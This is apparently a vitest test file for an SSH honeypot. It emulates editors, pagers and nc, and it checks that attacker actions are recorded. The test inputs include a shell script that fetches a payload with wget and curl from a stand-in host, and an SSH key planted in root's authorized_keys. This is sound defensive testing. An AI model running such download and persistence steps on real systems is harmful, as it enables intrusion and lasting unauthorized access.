import type { Client, ClientChannel } from 'ssh2'
import fc from 'fast-check'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { connect } from '../../services/ssh/testing.ts'
import { testSensor, type TestSensor } from '../../testing.ts'
import { Page } from './page.ts'

/** As much of a terminal as these programs use: the screen as somebody sees it. */
class Terminal {
  rows: string[]
  row = 0
  column = 0
  constructor(height = 24) {
    this.rows = Array.from({ length: height }, () => '')
  }
  take(data: string): void {
    // oxlint-disable-next-line no-control-regex
    for (const [, params, letter, other, text] of data.matchAll(
      /\u001b\[([?\d;]*)([A-Za-z])|\u001b(\(B|[=>])|([\s\S])/g,
    )) {
      if (letter === 'H') {
        const [row = '1', column = '1'] = (params ?? '').split(';')
        this.row = (Number(row) || 1) - 1
        this.column = (Number(column) || 1) - 1
      } else if (letter === 'K') this.rows[this.row] = (this.rows[this.row] ?? '').slice(0, this.column)
      else if (letter === 'J') for (let i = this.row + 1; i < this.rows.length; i++) this.rows[i] = ''
      else if (text === '\r') this.column = 0
      else if (text === '\n') {
        if (this.row < this.rows.length - 1) this.row++
        else this.rows = [...this.rows.slice(1), '']
      } else if (letter === undefined && other === undefined && text !== undefined && text >= ' ') {
        const line = (this.rows[this.row] ?? '').padEnd(this.column)
        this.rows[this.row] = line.slice(0, this.column) + text + line.slice(this.column + 1)
        this.column++
      }
    }
  }
  get text(): string {
    return this.rows.map((row) => row.trimEnd()).join('\n')
  }
}

const prompt = /#$/m
let lab: TestSensor
let client: Client
let stream: ClientChannel
const screen = new Terminal()
let raw = ''
beforeAll(async () => {
  lab = await testSensor()
  client = await connect(lab, { localAddress: '127.0.1.77' })
  stream = await new Promise<ClientChannel>((resolve, reject) =>
    client.shell({ term: 'xterm', cols: 80, rows: 24 }, (error, channel) => (error ? reject(error) : resolve(channel))),
  )
  stream.on('data', (part: Buffer) => {
    raw += part.toString('latin1')
    screen.take(part.toString('latin1'))
  })
  await sees(prompt)
}, 60_000)
afterAll(async () => {
  client.end()
  await lab[Symbol.asyncDispose]()
})
/** Types, and waits until the screen shows something, with what came since. */
async function sees(what: RegExp, keys = ''): Promise<string> {
  raw = ''
  if (keys !== '') stream.write(Buffer.from(keys, 'latin1'))
  for (let i = 0; i < 500; i++) {
    if ((keys === '' || raw !== '') && what.test(screen.text)) return screen.text
    await new Promise((resolve) => setTimeout(resolve, 20))
  }
  throw new Error(`${what.source} did not come:\n${screen.text}`)
}
let asked = 0
/** The output of a command at the prompt. */
async function output(command: string): Promise<string> {
  const mark = 4000 + asked++
  screen.rows = screen.rows.map(() => '')
  screen.row = screen.column = 0
  await sees(new RegExp(`^done-${mark}$[^]*#$`, 'm'), `${command}; echo done-$((${mark - 1}+1))\r`)
  return screen.text
}

test('vi: a script is written, changed, searched and saved; what was written is evidence', async () => {
  await sees(/"\/tmp\/x\.sh" \[New\] +0,0-1 +All/, 'vi /tmp/x.sh\r')
  expect(screen.rows[1]).toBe('~')
  await sees(/-- INSERT --/, 'i')
  await sees(/2,\d+/, '#!/bin/sh\rwget http://192.0.2.9/v.sh')
  stream.write('\u001b')
  await new Promise((resolve) => setTimeout(resolve, 150))
  // A line copied, one deleted, one taken back, a word changed.
  await sees(/wget[^\n]*\n(?:wget)/, 'yyp')
  stream.write('ddu')
  await sees(/v\.sh\nwget/, '')
  await sees(/E37: No write since last change/, ':q\r')
  await sees(/curl http.*\n/, ':%s/wget/curl/\r')
  await sees(/E486: Pattern not found: nope/, '/nope\r')
  await sees(/"\/tmp\/x\.sh" \[New\] 3L, 64B written/, ':w\r')
  await sees(prompt, ':q\r')
  expect(await output('cat /tmp/x.sh')).toContain('#!/bin/sh\ncurl http://192.0.2.9/v.sh\ncurl http://192.0.2.9/v.sh')
  const kept = await lab.until('artifact.stored', ({ data }) => data.name === '/tmp/x.sh')
  const line = await lab.until('command.run', ({ data }) => data.line === 'vi /tmp/x.sh')
  expect([kept.data.size, kept.data.parent]).toEqual([64, line.id])
  await lab.until('payload.seen', ({ data }) => data.url === 'http://192.0.2.9/v.sh')
  // Again: it is there, and a change is thrown away.
  await sees(/"\/tmp\/x\.sh" 3L, 64B/, 'vi /tmp/x.sh\r')
  await sees(prompt, 'ddG:q!\r')
  expect(await output('wc -l < /tmp/x.sh')).toMatch(/^3$/m)
}, 60_000)

test('nano: a key is planted with it', async () => {
  const key = `ssh-ed25519 ${Buffer.from('\0\0\0\x0bssh-ed25519\0\0\0 0123456789abcdef0123456789abcdef').toString('base64')} a@b`
  await sees(/GNU nano 5\.4 +\/root\/\.ssh\/authorized_keys/, 'nano /root/.ssh/authorized_keys\r')
  expect(screen.rows[22]).toMatch(/^\^G Help/)
  await sees(/Modified/, `${key}\r`)
  await sees(/Save modified buffer\?/, '\u0018')
  await sees(/File Name to Write: \/root\/\.ssh\/authorized_keys/, 'y')
  await sees(prompt, '\r')
  expect((await lab.until('key.planted')).data.path).toBe('/root/.ssh/authorized_keys')
  // Where nothing can be written it says so.
  await sees(/nano 5\.4/, 'nano /proc/nope\r')
  stream.write('x\u0018y\r')
  await sees(/Error writing \/proc\/nope/, '')
  // The prompt stands in the last line, over what the terminal would have put back.
  await sees(/^root@\S+#/m, '\u0018n')
}, 60_000)

test('top looks again until q; pagers show page after page', async () => {
  const text = await sees(/^ +PID USER/m, 'top\r')
  expect(text).toMatch(/^top - \d\d:\d\d:\d\d up .*load average/)
  expect(text).toMatch(/^MiB Mem :/m)
  await sees(prompt, 'q')
  await sees(/^:/m, 'seq 1 100 | less\r')
  expect(screen.rows.slice(0, 3)).toEqual(['1', '2', '3'])
  await sees(/^46$/m, ' ')
  await sees(/\(END\)/, 'G')
  expect(screen.rows[22]).toBe('100')
  await sees(/^7$/m, 'g')
  await sees(prompt, 'q')
  await sees(/--More--\(23%\)/, 'clear; seq 1 100 | more\r')
  await sees(/--More--\(46%\)/, ' ')
  await sees(prompt, 'q')
  expect(
    (await lab.events()).some(({ kind, data }) => kind === 'command.run' && 'line' in data && data.line === 'top -bn1'),
  ).toBe(false)
}, 60_000)

test('on Ubuntu htop draws bars, and nc is OpenBSD’s', async () => {
  await using ubuntu = await testSensor({}, { persona: 'ubuntu-22.04' })
  const other = await connect(ubuntu)
  const channel = await new Promise<ClientChannel>((resolve, reject) =>
    other.shell({ term: 'xterm', cols: 100, rows: 30 }, (error, one) => (error ? reject(error) : resolve(one))),
  )
  const view = new Terminal(30)
  channel.on('data', (part: Buffer) => view.take(part.toString('latin1')))
  const until = async (what: RegExp, keys: string): Promise<void> => {
    channel.write(keys)
    await expect.poll(() => view.text, { timeout: 10_000 }).toMatch(what)
  }
  await until(/F10Quit$/m, 'htop\r')
  for (const part of [/Load average: \d/, /Mem\[.*\/.*G\]/, /^ +PID USER/m]) expect(view.text).toMatch(part)
  await until(/root@\S+#/, 'q')
  await until(/nc: connect to 192\.0\.2\.1 port 80 \(tcp\) failed: No route to host/, 'clear; nc -v 192.0.2.1 80\r')
  other.end()
}, 60_000)

test('a text does not grow without end, whatever is undone, copied or replaced', () => {
  const page = new Page(`${'a'.repeat(100)}\n`, 1000)
  for (let i = 0; i < 200; i++) {
    const before = { lines: [...page.lines], row: page.row, column: page.column }
    const taken = page.cut(5)
    page.restore(before)
    page.paste(taken, 0)
    page.swap(0, 'a', 'bbbb', true)
    page.swap(0, 'b', 'a', true)
  }
  expect(page.text.length).toBeLessThanOrEqual(1100)
})

test('no keys harm the editors', async () => {
  const key = fc.oneof(
    fc.constantFrom(
      '\u001b',
      '\u001b[A',
      '\u001b[B',
      '\u001b[5~',
      '\r',
      '\u007f',
      '\u000b',
      '\u0015',
      'd',
      'dd',
      'yy',
      'p',
      'P',
      'u',
      'x',
      'J',
      'o',
      'O',
      'G',
      'gg',
      '9',
      '/a\r',
      ':s/a/b/\r',
      ':99999\r',
      'cw',
      'r',
    ),
    fc.string({ maxLength: 4 }).filter((text) => !/[\u0003Z:]/.test(text)),
  )
  for (const [program, end] of [
    ['vi', '\u001b\u001b:q!\r'],
    ['nano', '\u0003\u0018n'],
  ] as const)
    await fc.assert(
      fc.asyncProperty(fc.array(key, { maxLength: 30 }), async (keys) => {
        await sees(program === 'vi' ? /All$/m : /GNU nano/, `${program} /etc/hostname\r`)
        for (const one of keys) stream.write(Buffer.from(one, 'utf8'))
        // Escape is told from the beginning of a key by what follows it at once.
        await new Promise((resolve) => setTimeout(resolve, 100))
        for (const one of end) {
          stream.write(one)
          await new Promise((resolve) => setTimeout(resolve, one === '\u001b' || one === '\u0003' ? 80 : 5))
        }
        await output('true')
      }),
      { numRuns: 8 },
    )
  expect(lab.log.filter((line) => line.includes('fault'))).toEqual([])
}, 120_000)
